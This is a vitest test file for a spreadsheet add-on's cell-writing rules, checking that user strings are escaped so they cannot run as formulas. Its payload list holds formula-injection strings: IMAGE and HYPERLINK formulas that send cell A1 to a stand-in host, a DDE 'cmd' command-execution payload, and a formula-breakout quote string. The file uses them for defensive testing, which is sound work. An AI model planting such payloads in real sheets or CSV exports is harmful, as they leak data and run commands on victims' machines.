/** The one rule for what a written cell is (src/sheets/cell-text.ts): pure, so tested here. */
import { describe, expect, it } from 'vitest';
import {
  asDate,
  formula,
  formulaString,
  keptValue,
  sheetValue,
} from '../../src/sheets/cell-text.js';

/** OWASP's CSV injection payloads, and text already behind an apostrophe. */
const PAYLOADS = [
  '=IMAGE("https://x.example/?"&A1)',
  '=HYPERLINK("https://x.example/?"&A1,"Open")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  "=cmd|' /C calc'!A0",
  "'=1",
  '2026-01-05',
  'TRUE',
];

describe('what Sheets is given for a cell', () => {
  it.each(PAYLOADS)('writes the string %j as text, behind an apostrophe', (text) => {
    expect(sheetValue(text)).toBe(`'${text}`);
  });

  it('writes an empty string as an empty cell', () => {
    expect(sheetValue('')).toBe('');
  });

  it('writes numbers, booleans and dates read from the sheet as they are', () => {
    const date = new Date(0);
    expect(sheetValue(3)).toBe(3);
    expect(sheetValue(false)).toBe(false);
    expect(sheetValue(date)).toBe(date);
  });

  it('writes a formula only when the add-on built one', () => {
    expect(sheetValue(formula('=ROWS(CTOR_1_debt_id)'))).toBe('=ROWS(CTOR_1_debt_id)');
    expect(() => formula('ROWS(A1)')).toThrow('A formula starts with "="');
  });

  it('writes an ISO date or date and time as a date, anything else as text', () => {
    expect(sheetValue(asDate('2026-11-16'))).toBe('2026-11-16');
    expect(sheetValue(asDate('2026-11-16 07:00'))).toBe('2026-11-16 07:00');
    expect(sheetValue(asDate('=1+1'))).toBe("'=1+1");
    expect(sheetValue(asDate(''))).toBe('');
  });

  it('keeps a value read from the sheet: a string stays text', () => {
    expect(sheetValue(keptValue('=1'))).toBe("'=1");
    expect(keptValue(null)).toBe('');
  });
});

describe('text inside a formula', () => {
  it('is a quoted literal, a quote inside joined as CHAR(34)', () => {
    expect(formulaString('Acme')).toBe('"Acme"');
    expect(formulaString('')).toBe('""');
    expect(formulaString('"),IMAGE("x")')).toBe('""&CHAR(34)&"),IMAGE("&CHAR(34)&"x"&CHAR(34)&")"');
  });
});
